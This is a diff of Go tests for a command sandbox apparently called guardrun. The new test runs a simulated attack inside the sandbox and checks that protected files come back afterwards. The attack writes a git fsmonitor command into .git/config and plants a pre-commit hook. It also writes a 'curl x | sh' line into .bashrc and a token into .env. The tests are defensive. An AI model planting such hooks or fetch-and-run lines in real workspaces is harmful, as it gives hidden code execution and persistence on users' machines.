@@ -16,6 +16,7 @@ import (
 
 	"github.com/guardrun/guardrun/bwrap"
 	"github.com/guardrun/guardrun/landlock"
+	"github.com/guardrun/guardrun/sandbox"
 )
 
 // requireLandlock skips unless the landlock backend works here (and
@@ -32,8 +33,11 @@ func requireLandlock(t *testing.T) {
 }
 
 // TestLandlockRefuses: a profile landlock cannot enforce in full (a
-// denied name missing in a writable working directory could be created)
-// is refused before anything runs, naming each part and the way out.
+// denied path the config lists, missing in a writable working directory,
+// could be created) is refused before anything runs, naming each part
+// and the way out. Missing denied and protected names (.env, .bashrc)
+// are not refused: they are moved aside after the command if it creates
+// them (TestLandlockProtectedRestored).
 func TestLandlockRefuses(t *testing.T) {
 	requireLandlock(t)
 	f := newFixture(t)
@@ -42,8 +46,9 @@ func TestLandlockRefuses(t *testing.T) {
 		t.Fatal(err)
 	}
 	p := f.derive(t, work)
+	target := filepath.Join(work, "secrets")
+	p.Deny = append(p.Deny, target)
 	var out bytes.Buffer
-	target := filepath.Join(work, ".npmrc")
 	_, err := RunWith(context.Background(), Options{Backend: BackendLandlock}, p,
 		[]string{probePath, "write", target}, f.env, Stdio{Stdout: &out, Stderr: &out})
 	var ue *landlock.UnenforceableError
@@ -51,10 +56,13 @@ func TestLandlockRefuses(t *testing.T) {
 		t.Fatalf("want a refusal naming the parts, got %v\n%s", err, out.String())
 	}
 	msg := err.Error()
-	for _, want := range []string{filepath.Join(work, ".env"), target, "deny_create", "sandbox.landlock_accept", "bwrap"} {
+	for _, want := range []string{target, "deny_create", "sandbox.landlock_accept", "bwrap"} {
 		if !strings.Contains(msg, want) {
 			t.Errorf("refusal does not mention %q:\n%s", want, msg)
 		}
+	}
+	if strings.Contains(msg, filepath.Join(work, ".env")) {
+		t.Errorf("refusal names a missing denied name, which is moved aside instead:\n%s", msg)
 	}
 	if out.Len() != 0 {
 		t.Errorf("something ran: %s", out.String())
@@ -64,12 +72,121 @@ func TestLandlockRefuses(t *testing.T) {
 	}
 	// Accepted, the same command runs and the loss is what was named.
 	status, err := RunWith(context.Background(), Options{Backend: BackendLandlock, LandlockAccept: []string{landlock.AcceptDenyCreate}}, p,
-		[]string{"/bin/sh", "-c", "echo x > .npmrc"}, f.env, Stdio{Stdout: &out, Stderr: &out})
+		[]string{"/bin/sh", "-c", "echo x > secrets"}, f.env, Stdio{Stdout: &out, Stderr: &out})
 	if err != nil || status != 0 {
 		t.Fatalf("accepted: status %d, %v\n%s", status, err, out.String())
 	}
 	if _, err := os.Stat(target); err != nil {
 		t.Errorf("accepted loss: %s was not created: %v", target, err)
+	}
+}
+
+// TestLandlockProtectedRestored: with the default protect list and deny
+// names, in a workspace that holds none of guardrun's own files, ordinary
+// work runs under landlock (new files in the workspace's root, git init,
+// add and commit, make), and afterwards every protected name the command
+// changed is back as it was, every one it created is moved aside (not
+// deleted), each with one line on stderr.
+func TestLandlockProtectedRestored(t *testing.T) {
+	requireLandlock(t)
+	f := newFixture(t)
+	ws := filepath.Join(f.base, "plain")
+	files := map[string]string{
+		"Makefile":             "all:\n\techo made > made.txt\n",
+		"repo/.git/config":     gitConfigText,
+		"repo/.git/hooks/x.sh": "#!/bin/sh\n",
+	}
+	for n, c := range files {
+		p := filepath.Join(ws, n)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	p, err := sandbox.Derive(sandbox.Spec{
+		Zones:        []sandbox.Zone{{Name: "ws", Root: ws, Writable: true}, {Name: "probe", Root: filepath.Dir(probePath)}},
+		SystemRead:   sandbox.DefaultSystemPaths,
+		ProtectNames: sandbox.DefaultProtect,
+		DenyNames:    []string{".env"},
+		Cwd:          ws,
+		Home:         f.home,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	run := func(script string) int {
+		t.Helper()
+		out.Reset()
+		status, err := RunWith(context.Background(), Options{Backend: BackendLandlock}, p,
+			Script("/bin/sh", script), f.env, Stdio{Stdout: &out, Stderr: &out})
+		if err != nil {
+			t.Fatalf("the sandbox did not start: %v\n%s", err, out.String())
+		}
+		return status
+	}
+	// The positive side.
+	if st := run(`set -e; echo new > new.txt; make -s; git init -q g; cd g; echo a > a; git add a;
+		git -c user.name=t -c user.email=t@t commit -qm one; git log --oneline | wc -l`); st != 0 {
+		t.Fatalf("ordinary work: status %d\n%s", st, out.String())
+	}
+	for _, n := range []string{"new.txt", "made.txt", "g/.git/HEAD"} {
+		if _, err := os.Stat(filepath.Join(ws, n)); err != nil {
+			t.Errorf("%s: %v\n%s", n, err, out.String())
+		}
+	}
+	if strings.Contains(out.String(), "guardrun: protected") {
+		t.Errorf("ordinary work reported protected paths:\n%s", out.String())
+	}
+	// The attacks, in one command that then fails: every change is put
+	// back, every new name moved aside, each said on stderr.
+	st := run(`echo '[core] fsmonitor = "touch p"' >> repo/.git/config
+		printf '#!/bin/sh\ntouch p\n' > repo/.git/hooks/pre-commit; chmod +x repo/.git/hooks/pre-commit
+		ln -sf /tmp/evil repo/.git/hooks/x.sh
+		echo 'curl x | sh' > .bashrc; echo 'export A=1' > .envrc; mkdir .vscode; echo '{}' > .vscode/settings.json
+		echo TOKEN=x > .env
+		exit 3`)
+	if st != 3 {
+		t.Fatalf("status %d, want the command's 3\n%s", st, out.String())
+	}
+	stderr := out.String()
+	if b, err := os.ReadFile(filepath.Join(ws, "repo/.git/config")); err != nil || string(b) != gitConfigText {
+		t.Errorf(".git/config not restored: %q, %v", b, err)
+	}
+	ents, _ := os.ReadDir(filepath.Join(ws, "repo/.git/hooks"))
+	if len(ents) != 1 || ents[0].Name() != "x.sh" || !ents[0].Type().IsRegular() {
+		t.Errorf(".git/hooks not restored: %v", ents)
+	}
+	for _, n := range []string{".bashrc", ".envrc", ".vscode", ".env"} {
+		if _, err := os.Lstat(filepath.Join(ws, n)); !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("%s is still there after the command: %v", n, err)
+		}
+		q, _ := filepath.Glob(filepath.Join(ws, n+".guardrun-quarantine-*"))
+		if len(q) != 1 {
+			t.Errorf("%s: no quarantined copy: %v", n, q)
+		}
+		if !strings.Contains(stderr, "guardrun: protected "+filepath.Join(ws, n)+" was created by the command; moved aside to ") {
+			t.Errorf("stderr does not say %s was moved aside:\n%s", n, stderr)
+		}
+	}
+	for _, n := range []string{"repo/.git/config", "repo/.git/hooks"} {
+		if !strings.Contains(stderr, "guardrun: protected "+filepath.Join(ws, n)+" was changed by the command; restored") {
+			t.Errorf("stderr does not say %s was restored:\n%s", n, stderr)
+		}
+	}
+	// The command's versions are kept, not deleted.
+	q, _ := filepath.Glob(filepath.Join(ws, "repo/.git/config.guardrun-quarantine-*"))
+	if len(q) != 1 {
+		t.Fatalf("the changed config was not kept aside: %v", q)
+	}
+	if b, _ := os.ReadFile(q[0]); !strings.Contains(string(b), "fsmonitor") {
+		t.Errorf("kept config: %q", b)
+	}
+	// Nothing changed: nothing said.
+	if st := run(`cat repo/.git/config >/dev/null`); st != 0 || strings.Contains(out.String(), "guardrun:") {
+		t.Errorf("status %d, output %q", st, out.String())
 	}
 }
 
@@ -176,7 +293,7 @@ func TestLandlockWithoutNamespaces(t *testing.T) {
 	if err := copyFile(self, bin, 0o755); err != nil {
 		t.Fatal(err)
 	}
-	tests := "^(TestNoNamespaces|TestEscapes|TestSandboxWorks|TestSignals|TestCancel|TestNoSurvivorsAfterSIGKILL|TestProbeRefusesOnHost|TestLandlockRefuses|TestLandlockFixedEntries)$"
+	tests := "^(TestNoNamespaces|TestEscapes|TestSandboxWorks|TestSignals|TestCancel|TestNoSurvivorsAfterSIGKILL|TestProbeRefusesOnHost|TestLandlockRefuses|TestLandlockFixedEntries|TestLandlockProtectedRestored)$"
 	inner := []string{bw, "--dev-bind", "/", "/", "--unshare-user", "--disable-userns", "--",
 		"env", "GUARDRUN_TEST_NONS=1", "GUARDRUN_TEST_BACKEND=landlock", "GUARDRUN_REQUIRE_SANDBOX=1",
 		"GUARDRUN_TEST_PROBE=" + probePath, "PATH=/usr/local/bin:/usr/bin:/bin",
